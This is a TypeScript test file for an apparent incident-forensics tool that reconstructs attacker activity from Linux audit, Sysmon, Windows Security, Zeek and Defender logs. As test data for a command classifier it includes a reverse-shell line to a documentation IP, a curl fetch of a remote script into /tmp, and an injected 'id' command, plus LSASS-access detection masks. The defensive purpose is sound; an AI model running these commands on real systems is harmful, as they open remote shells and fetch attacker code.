import { describe, expect, it } from 'vitest'
import { makeCase } from '../made-case.ts'
import { effectOf, effectsAfter, isOddProgram } from './effects.ts'
import { ATTACKER, execve, fileinfo, HOST, started, syslog, TARGET, windows } from './made-records.ts'
import { isServerAccount, isServerProgram, programsOf, purposeOf } from './programs.ts'
import { removalOf } from './removals.ts'
import { kindOfBytes, kindOfFile, transfersOf } from './transfers.ts'
import { isRecordOf, numberOf, plainAddress } from './values.ts'

const events = (...after: Parameters<typeof makeCase>[0]['after'] & object): ReturnType<typeof makeCase>['after'] =>
  makeCase({ title: 'x', after }).after

describe('programs', () => {
  it('joins the records of one execve', () => {
    const [start, ...more] = programsOf(events(...execve(0, 7, 'sh -c id')))
    expect(more).toEqual([])
    expect(start).toMatchObject({
      name: 'sh',
      command: 'sh -c id',
      user: 'www-data',
      pid: 20_007,
      parentPid: 812,
      refused: false,
    })
  })

  it('reads the audit through syslog, with arguments in hexadecimal', () => {
    const [start] = programsOf(
      events(
        syslog(
          0,
          'audit',
          'type=SYSCALL msg=audit(1.2:9): syscall=59 success=yes ppid=1 pid=2 uid=33 comm="sh" exe="/usr/bin/dash"',
          { 'audit.id': '9' },
        ),
        syslog(0, 'audit', 'type=EXECVE msg=audit(1.2:9): argc=3 a0="sh" a1="-c" a2=6361742061', { 'audit.id': '9' }),
      ),
    )
    expect(start).toMatchObject({ command: 'sh -c cat a', user: '33', name: 'sh' })
  })

  it('names a parent by its own start, and takes Sysmon and the Security log for one', () => {
    const found = programsOf(
      events(
        started(0, 'C:\\php\\php-cgi.exe', 'php-cgi', 'C:\\svc.exe', { 'process.pid': 70 }),
        started(1, 'C:\\Windows\\cmd.exe', 'cmd /c id', '', { 'process.pid': 71, 'process.parent.pid': 70 }),
        windows(1, 4688, 'Security', { 'process.path': 'C:\\Windows\\cmd.exe', 'process.pid': 71, 'process.parent.pid': 70 }),
      ),
    )
    expect(found.map(({ name, parent }) => [name, parent])).toEqual([
      ['php-cgi.exe', 'svc.exe'],
      ['cmd.exe', 'php-cgi.exe'],
    ])
    expect(found[1]!.events).toHaveLength(2)
  })

  it.each([
    ['sh -c id', 'looks_around'],
    ['cmd.exe /c whoami /all & net user', 'looks_around'],
    ['bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'fetches'],
    ['curl http://198.51.100.7/x.sh -o /tmp/x', 'fetches'],
    ['curl -s http://localhost/health', 'ordinary'],
    ['sh -c /usr/sbin/sendmail -t -i', 'ordinary'],
    ['convert in.jpg; id', 'looks_around'],
    ['/usr/lib/jvm/bin/java -jar app.jar', 'unknown'],
    ['grep -c identity /srv/app.log', 'unknown'],
  ])('%s: %s', (command, purpose) => expect(purposeOf(command)).toBe(purpose))

  it('knows servers and their accounts', () => {
    expect(['php-fpm8.2', 'w3wp.exe', 'apache2', 'zabbix_agentd', 'cron', 'explorer.exe'].map(isServerProgram)).toEqual([
      true,
      true,
      true,
      false,
      false,
      false,
    ])
    expect(['www-data', 'IIS APPPOOL\\shop', 'MSSQL$SQLEXPRESS', 'root', 'SYSTEM', 'kim'].map(isServerAccount)).toEqual([
      true,
      false,
      true,
      false,
      false,
      false,
    ])
  })
})

describe('effects', () => {
  it('are bound to sessions of the attacker by the logon id', () => {
    const of = makeCase({
      title: 'x',
      targetName: HOST,
      after: [
        windows(1, 4624, 'Security', { 'src.ip': `::ffff:${ATTACKER}`, TargetLogonId: '0xAB', outcome: 'success' }),
        windows(2, 4720, 'Security', { 'target.user': 'a', SubjectLogonId: '0xab' }),
        windows(3, 4720, 'Security', { 'target.user': 'b', SubjectLogonId: '0x3e7' }),
        windows(4, 4720, 'Security', { 'target.user': 'c', SubjectLogonId: '0xab', 'host.name': 'other-01' }),
      ],
    })
    expect(effectsAfter(of, ['account_created']).map(({ what, link }) => [what, link])).toEqual([
      ['a', 'session'],
      ['b', null],
    ])
  })

  it('reads LSASS only where memory may be read by who has no business with it', () => {
    const access = (GrantedAccess: string, path = 'C:\\a.exe'): unknown =>
      effectOf(
        events(
          windows(0, 10, 'Sysmon', { GrantedAccess, TargetImage: 'C:\\Windows\\System32\\lsass.exe', 'process.path': path }),
        )[0]!,
      )
    expect(['0x1010', '0x1410', '0x1fffff'].map((mask) => access(mask) !== null)).toEqual([true, true, true])
    expect(['0x1000', '0x1400', '0x40'].map((mask) => access(mask))).toEqual([null, null, null])
    expect(access('0x1fffff', 'C:\\Windows\\System32\\csrss.exe')).toBeNull()
  })

  it.each([
    ['%SystemRoot%\\msupd.exe', true],
    ['C:\\Users\\Public\\a.exe', true],
    ['%COMSPEC% /c echo', true],
    ['C:\\Windows\\System32\\svchost.exe -k netsvcs', false],
    ['C:\\Program Files\\Maker\\agent.exe', false],
  ])('%s is odd: %s', (runs, odd) => expect(isOddProgram(runs)).toBe(odd))
})

describe('transfers', () => {
  it('tells who sent and who received', () => {
    const zeek = {
      at: 0,
      type: 'files',
      format: 'zeek-tsv',
      fields: { 'src.ip': TARGET, 'dst.ip': ATTACKER, is_orig: false, seen_bytes: 5, 'file.size': 9 },
    }
    const [file, other] = transfersOf(events(zeek, fileinfo(1, 'a.exe')))
    expect(file).toMatchObject({ from: ATTACKER, to: TARGET, whole: false })
    expect(other).toMatchObject({ from: ATTACKER, to: TARGET, whole: true })
  })
  it('believes bytes more than names', () => {
    expect(kindOfFile({ type: 'text/html', name: 'a.exe' })).toBe('other')
    expect(kindOfFile({ type: 'application/x-dosexec', name: 'a.png' })).toBe('program')
    expect(kindOfBytes(`MZ${'\0'.repeat(60)}`)).toBe('program')
    expect(kindOfBytes('<!doctype html>')).toBeNull()
  })
  it('reads what Defender did', () => {
    const done = (id: number, ActionName: string, ErrorCode = '0x00000000'): unknown =>
      removalOf(events(windows(0, id, 'Defender', { ActionName, ErrorCode, Path: 'file:_C:\\a.exe; file:_C:\\B.exe->x' }))[0]!)
        ?.done
    expect([
      done(1116, ''),
      done(1117, 'Quarantine'),
      done(1117, 'Allow'),
      done(1117, 'Remove', '0x80070005'),
      done(1119, 'Remove'),
    ]).toEqual([null, true, false, false, false])
  })
})

describe('values', () => {
  it('are read in whatever form', () => {
    expect([numberOf({ a: '0x1f' }, 'a'), numberOf({ a: '12' }, 'a'), numberOf({ a: 'x' }, 'a'), numberOf({}, 'a')]).toEqual([
      31,
      12,
      null,
      null,
    ])
    expect(plainAddress('::ffff:192.0.2.1')).toBe('192.0.2.1')
  })
  it('a record of another host about the target is not the target’s', () => {
    const [mine, others] = events(
      windows(0, 4720, 'Security', { 'host.name': 'WEB-01.corp.example' }),
      windows(0, 4624, 'Security', { 'host.name': 'dc-01', 'src.ip': TARGET }),
    )
    expect(isRecordOf(mine!, { ip: TARGET, port: null, name: 'web-01' })).toBe(true)
    expect(isRecordOf(others!, { ip: TARGET, port: null, name: 'web-01' })).toBe(false)
    expect(isRecordOf(others!, { ip: TARGET, port: null, name: null })).toBe(false)
  })
})

describe('hostile text', () => {
  const LONG = 262_144
  it.each([
    'a',
    ' ',
    'curl ',
    '\\windows\\',
    'http',
    'id;',
    '"',
    'A',
    "' ",
    '/tmp',
    'cat \\',
    '-e ',
    'type=SYSCALL audit( a1=',
    'file:_;',
  ])('of %j does not hold up', (piece) => {
    const text = piece.repeat(Math.ceil(LONG / piece.length))
    const before = performance.now()
    purposeOf(text)
    isOddProgram(text)
    kindOfFile({ type: text, name: text })
    kindOfBytes(text)
    programsOf(events(syslog(0, 'audit', `type=EXECVE msg=audit(1.1:1): ${text}`), started(0, text, text, text)))
    for (const event of events(
      windows(0, 4698, 'Security', { TaskContent: `<Command>${text}` }),
      windows(0, 1117, 'Defender', { Path: text, ThreatName: text }),
      syslog(0, 'systemd', `Stopped ${text}`),
      windows(0, 7036, 'System', { param1: text, param2: 'stopped' }),
    )) {
      effectOf(event)
      removalOf(event)
    }
    // Generous: what backtracks takes minutes.
    expect(performance.now() - before).toBeLessThan(5_000)
  })
})
